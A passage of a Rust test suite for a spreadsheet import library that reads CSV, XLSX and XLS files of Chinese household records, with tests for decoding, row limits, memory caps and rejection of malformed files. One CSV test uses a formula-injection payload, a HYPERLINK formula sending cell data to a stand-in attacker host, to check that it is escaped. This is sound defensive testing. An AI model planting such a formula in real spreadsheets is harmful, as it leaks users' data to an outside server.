        let cells = vec![
            cell(0x00FD, 0, 1, &0u32.to_le_bytes()),
            cell(0x0204, 0, 2, &wide(" 入住日期 ")),
            cell(0x00FD, 1, 1, &1u32.to_le_bytes()),
            cell(0x0203, 1, 2, &13812345678.0f64.to_le_bytes()),
            record(0x0203, &date),
            record(0x00BD, &mulrk),
            record(0x0006, &formula),
            record(0x0207, &wide("公式")),
            cell(0x0205, 2, 1, &[1, 0]),
            cell(0x027E, 2, 2, &((1234u32 << 2) | 3).to_le_bytes()),
        ];
        let bytes = xls(&globals, &cells);
        let t = read_table(&bytes, 10).unwrap();
        assert_eq!(t.headers, ["姓名", "入住日期"]);
        assert_eq!(
            t.rows,
            [
                (
                    2,
                    ["王小明", "13812345678", "2019-08-01", "7", "8", "公式"]
                        .map(String::from)
                        .to_vec()
                ),
                (3, vec!["TRUE".to_string(), "12.34".to_string()]),
            ]
        );
    }

    #[test]
    fn xls_cells_far_away_or_too_much_shared_text_are_refused_cheaply() {
        use xls::tests::{rc, record, wide, xls};
        let cell = |typ: u16, row: u16, col: u16, rest: &[u8]| {
            let mut d = rc(row, col);
            d.extend_from_slice(rest);
            record(typ, &d)
        };
        // A Dimensions record and two cells at the corners of BIFF8's 65,536 × 65,536.
        let mut dims = 0u32.to_le_bytes().to_vec();
        dims.extend_from_slice(&u32::MAX.to_le_bytes());
        dims.extend_from_slice(&[0, 0, 0xFF, 0xFF, 0, 0]);
        let far = vec![
            record(0x0200, &dims),
            cell(0x0203, 0, 0, &1.0f64.to_le_bytes()),
            cell(0x0203, 65_535, 65_535, &1.0f64.to_le_bytes()),
        ];
        let bytes = xls(&[], &far);
        let (r, peak) = measure(64 * MIB, || read_table(&bytes, 500_000));
        assert_eq!(r.unwrap_err().code(), "import.sheet_too_large");
        assert!(peak < 2 * MIB, "held {peak} bytes");
        // A 60,000-character shared string in 4,000 cells: 720 MB of copies.
        let mut sst = 1u32.to_le_bytes().to_vec();
        sst.extend_from_slice(&1u32.to_le_bytes());
        let s = wide(&"长".repeat(8000));
        // Split between characters, as Excel does: 3 header bytes and 3,999 characters.
        sst.extend_from_slice(&s[..8001]);
        let mut parts = vec![record(0x00FC, &sst)];
        for chunk in s[8001..].chunks(8000) {
            let mut c = vec![1u8];
            c.extend_from_slice(chunk);
            parts.push(record(0x003C, &c));
        }
        let cells: Vec<Vec<u8>> = (0..4000)
            .map(|r| cell(0x00FD, r, 0, &0u32.to_le_bytes()))
            .collect();
        let mut l = SheetLimits::new(500_000);
        l.max_text_bytes = 16 * MIB;
        let bytes = xls(&parts, &cells);
        let (r, peak) = measure(256 * MIB, || read_table_with(&bytes, &l));
        assert_eq!(r.unwrap_err(), SheetError::TooMuchData { limit_mb: 16 });
        assert!(peak < 24 * MIB + 2 * bytes.len(), "held {peak} bytes");
        // Not BIFF8, or no workbook stream: not a spreadsheet.
        let mut cf = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
        cf.create_stream("/Other").unwrap();
        cf.flush().unwrap();
        let other = cf.into_inner().into_inner();
        assert_eq!(read_table(&other, 10), Err(SheetError::NotASpreadsheet));
    }

    const ID: &str = "42010219900307001X";

    #[test]
    fn csv_cells_that_look_like_formulas_are_written_as_text_and_read_back() {
        let headers = ["姓名", "备注", "数"];
        let rows = vec![vec![
            "=HYPERLINK(\"http://evil.example/\"&A1)".to_string(),
            "@SUM(A1)".to_string(),
            "-3".to_string(),
        ]];
        let bytes = write_csv(&headers, &rows);
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
        assert!(text.contains(",'@SUM(A1),-3"), "{text}");
        let table = read_table(&bytes, 10).unwrap();
        assert_eq!(table.rows[0].1, rows[0]);
    }

    fn sample() -> (Vec<&'static str>, Vec<Vec<String>>) {
        let headers = vec!["户号", "姓名", "身份证号", "备注"];
        let rows = vec![
            vec![
                "1".into(),
                "王小明".into(),
                ID.into(),
                "有逗号,也有\"引号\"".into(),
            ],
            vec![
                "2".into(),
                "李娜".into(),
                "420102198001010026".into(),
                String::new(),
            ],
        ];
        (headers, rows)
    }

    fn check_sample(t: &Table) {
        let (headers, rows) = sample();
        assert_eq!(t.headers, headers);
        assert_eq!(t.rows.len(), 2);
        assert_eq!(t.rows[0].0, 2);
        assert_eq!(t.rows[1].0, 3);
        assert_eq!(t.rows[0].1, rows[0]);
        assert_eq!(t.rows[1].1, rows[1]);
    }

    #[test]
    fn xlsx_round_trip() {
        let (headers, rows) = sample();
        let bytes = write_xlsx("住户", &headers, &rows).unwrap();
        assert!(bytes.starts_with(ZIP_MAGIC));
        check_sample(&read_table(&bytes, 100).unwrap());
    }

    #[test]
    fn csv_round_trip() {
        let (headers, rows) = sample();
        let bytes = write_csv(&headers, &rows);
        assert!(bytes.starts_with(UTF8_BOM));
        check_sample(&read_table(&bytes, 100).unwrap());
    }

    #[test]
    fn gbk_csv_is_decoded() {
        let text = "姓名,社区\r\n张三,幸福里社区\r\n";
        let (bytes, _, _) = encoding_rs::GBK.encode(text);
        assert!(std::str::from_utf8(&bytes).is_err());
        let t = read_table(&bytes, 10).unwrap();
        assert_eq!(t.headers, ["姓名", "社区"]);
        assert_eq!(
            t.rows,
            vec![(2, vec!["张三".to_string(), "幸福里社区".to_string()])]
        );
    }

    #[test]
    fn garbage_is_refused_without_panic() {
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        for len in [1usize, 7, 64, 500, 4096] {
            let garbage: Vec<u8> = (0..len)
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    (seed >> 24) as u8
                })
                .collect();
            assert!(read_table(&garbage, 10).is_err(), "len {len}");
        }
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10";
        assert_eq!(read_table(png, 10), Err(SheetError::NotASpreadsheet));
        assert_eq!(read_table(b"", 10), Err(SheetError::Empty));
        assert_eq!(read_table(b" \r\n ", 10), Err(SheetError::Empty));
        let broken_zip = b"PK\x03\x04\x14\0\0\0\x08\0garbage that is not a zip";
        assert_eq!(read_table(broken_zip, 10), Err(SheetError::NotASpreadsheet));
        let ole = [OLE_MAGIC, b"rest of nothing"].concat();
        assert_eq!(read_table(&ole, 10), Err(SheetError::NotASpreadsheet));
        // A valid zip that is not a workbook.
        let (headers, rows) = sample();
        let mut xlsx = write_xlsx("S", &headers, &rows).unwrap();
        xlsx.truncate(xlsx.len() / 2);
        assert!(read_table(&xlsx, 10).is_err());
        // Plain prose is not a table.
        assert_eq!(
            read_table("你好世界".as_bytes(), 10),
            Err(SheetError::NotASpreadsheet)
        );
    }

    #[test]
    fn blank_rows_are_skipped_but_counted() {
        let csv = "\n姓名,电话\n\n张三,13812345678\n , \n李四,\"多行\n备注\"\n王五,1\n";
        let t = read_table(csv.as_bytes(), 10).unwrap();
        assert_eq!(t.headers, ["姓名", "电话"]);
        let numbers: Vec<usize> = t.rows.iter().map(|r| r.0).collect();
        assert_eq!(numbers, [4, 6, 7]);
        assert_eq!(t.rows[1].1[1], "多行\n备注");

        let rows = vec![
            vec!["张三".to_string(), "1".to_string()],
            vec![String::new(), String::new()],
            vec!["李四".to_string(), String::new()],
        ];
        let bytes = write_xlsx("S", &["姓名", "电话"], &rows).unwrap();
        let t = read_table(&bytes, 10).unwrap();
        let numbers: Vec<usize> = t.rows.iter().map(|r| r.0).collect();
        assert_eq!(numbers, [2, 4]);
    }

    #[test]
    fn too_many_rows_and_header_only() {
        let csv = "a,b\n1,2\n3,4\n5,6\n";
        assert_eq!(
            read_table(csv.as_bytes(), 2),
            Err(SheetError::TooManyRows(2))
        );
        assert_eq!(read_table(csv.as_bytes(), 3).unwrap().rows.len(), 3);
        assert_eq!(read_table(b"a,b\n", 3), Err(SheetError::Empty));
        assert_eq!(SheetError::TooManyRows(2).code(), "import.too_many_rows");
    }

    #[test]
    fn numbers_and_dates_from_xlsx() {
        use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
        let mut wb = Workbook::new();
        let date = Format::new().set_num_format("yyyy-mm-dd");
        let ws = wb.add_worksheet();
        ws.write_string(1, 1, "房号").unwrap();
        ws.write_string(1, 2, "手机号").unwrap();
        ws.write_string(1, 3, "入住日期").unwrap();
        ws.write_string(1, 4, "面积").unwrap();
        ws.write_number(2, 1, 502.0).unwrap();
        ws.write_number(2, 2, 13812345678.0).unwrap();
        let d = ExcelDateTime::from_ymd(2019, 8, 1).unwrap();
        ws.write_datetime_with_format(2, 3, &d, &date).unwrap();
        ws.write_number(2, 4, 89.5).unwrap();
        let bytes = wb.save_to_buffer().unwrap();
        let t = read_table(&bytes, 10).unwrap();
        assert_eq!(t.headers, ["房号", "手机号", "入住日期", "面积"]);
        assert_eq!(t.rows.len(), 1);
        assert_eq!(t.rows[0].0, 3);
        assert_eq!(t.rows[0].1, ["502", "13812345678", "2019-08-01", "89.5"]);
        assert_eq!(float_text(4.20102199001011e17), "420102199001011008");
    }
}
